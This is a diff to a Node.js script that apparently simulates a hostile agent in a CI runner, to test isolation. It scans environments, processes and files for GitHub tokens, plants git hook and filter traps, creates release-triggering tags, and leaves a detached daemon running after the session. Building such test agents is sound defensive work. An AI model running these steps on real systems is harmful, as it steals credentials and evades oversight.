@@ -17,7 +17,7 @@ const cp = require('node:child_process');
 const REPORT = process.env.HOSTILE_REPORT;
 const TOKEN = /gh[pousr]_[A-Za-z0-9_]{16,}|eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*/g;
 const NAMES = /^(ACTIONS_ID_TOKEN_REQUEST_TOKEN|ACTIONS_ID_TOKEN_REQUEST_URL|ACTIONS_RUNTIME_TOKEN|GITHUB_TOKEN|GH_TOKEN|GIT_CONFIG_VALUE_\d+|INPUT_TOKEN)=/;
-const marker = (name) => 'echo ran >> ' + JSON.stringify(path.join(REPORT, 'ran-' + name));
+const marker = (name) => 'id -u >> ' + JSON.stringify(path.join(REPORT, 'ran-' + name));
 
 // What an environment (or any text) gives away: variable names that hold credentials, tokens.
 function secretsIn(text, where, found) {
@@ -39,13 +39,17 @@ function scanProcesses(found) {
   return readable;
 }
 
-// Every readable file under the runner's folders, the workspace's parent and HOME.
+// Every readable file under the runner's folders, the checkout (its .git/ too) and HOME.
 function scanFiles(roots, found) {
   let files = 0;
   const walk = (dir, depth) => {
     if (depth > 6) return;
     let entries;
-    try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
+    try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch {
+      // A file named as a root.
+      try { const text = fs.readFileSync(dir, 'latin1'); files++; secretsIn(text, dir, found); } catch {}
+      return;
+    }
     for (const e of entries) {
       const p = path.join(dir, e.name);
       if (p.startsWith(REPORT)) continue;
@@ -91,7 +95,13 @@ secretsIn(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\0'), '
 report.environsReadable = scanProcesses(found);
 const git = (...args) => cp.spawnSync('git', args, { encoding: 'utf8' });
 
-// A hook in every place git looks for one, and config that runs commands.
+// Tags that a push with --follow-tags would carry (and a tag push starts release workflows).
+git('-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '--allow-empty', '-q', '-m', 'evil');
+git('-c', 'user.name=x', '-c', 'user.email=x@x', 'tag', '-a', 'v9.9.' + attempt, '-m', 'release');
+git('tag', 'evil-' + attempt);
+
+// Then a hook in every place git looks for one, and config that runs commands: from here on
+// the agent runs no git of its own, so a trap that runs was run by someone else's git.
 const hooks = path.join(process.cwd(), '.git', 'evil-hooks');
 fs.mkdirSync(hooks, { recursive: true });
 for (const name of ['pre-commit', 'commit-msg', 'post-commit', 'pre-push', 'post-checkout', 'post-merge', 'reference-transaction', 'pre-auto-gc']) {
@@ -110,21 +120,21 @@ git('config', 'push.followTags', 'true');
 fs.mkdirSync(path.join('.git', 'info'), { recursive: true });
 fs.writeFileSync(path.join('.git', 'info', 'attributes'), '* filter=evil diff=evil\n');
 fs.writeFileSync('.gitattributes', '* filter=evil\n');
-// Tags that a push with --follow-tags would carry (and a tag push starts release workflows).
-git('-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '--allow-empty', '-q', '-m', 'evil');
-git('-c', 'user.name=x', '-c', 'user.email=x@x', 'tag', '-a', 'v9.9.' + attempt, '-m', 'release');
-git('tag', 'evil-' + attempt);
 
 report.sudo = cp.spawnSync('sudo', ['-n', 'true']).status === 0;
 report.wroteRunnerTemp = (() => {
   try { fs.writeFileSync(path.join(process.env.RUNNER_TEMP, 'agent-coordinator-evil'), 'x'); return true; } catch { return false; }
 })();
 report.filesRead = scanFiles(
-  [process.env.RUNNER_TEMP, path.dirname(process.cwd()), process.env.HOME, path.join(process.cwd(), '.git')],
+  [process.env.RUNNER_TEMP, process.env.HOME, process.cwd(), process.env.GITHUB_EVENT_PATH],
   found,
 );
 report.found = found;
-cp.spawn(process.execPath, [__filename, '--daemon', path.resolve('work.txt')], { detached: true, stdio: 'ignore' }).unref();
+const daemon = cp.spawn(process.execPath, [__filename, '--daemon', path.resolve('work.txt')], { detached: true, stdio: 'ignore' });
+daemon.unref();
+// The daemon is up (it wrote its pid) before the agent ends.
+const pidFile = path.join(REPORT, 'daemon-' + daemon.pid + '.pid');
+for (const until = Date.now() + 10000; !fs.existsSync(pidFile) && Date.now() < until; ) cp.spawnSync('sleep', ['0.05']);
 
 // The task itself.
 fs.writeFileSync('work.txt', 'work of attempt ' + attempt + '\n');
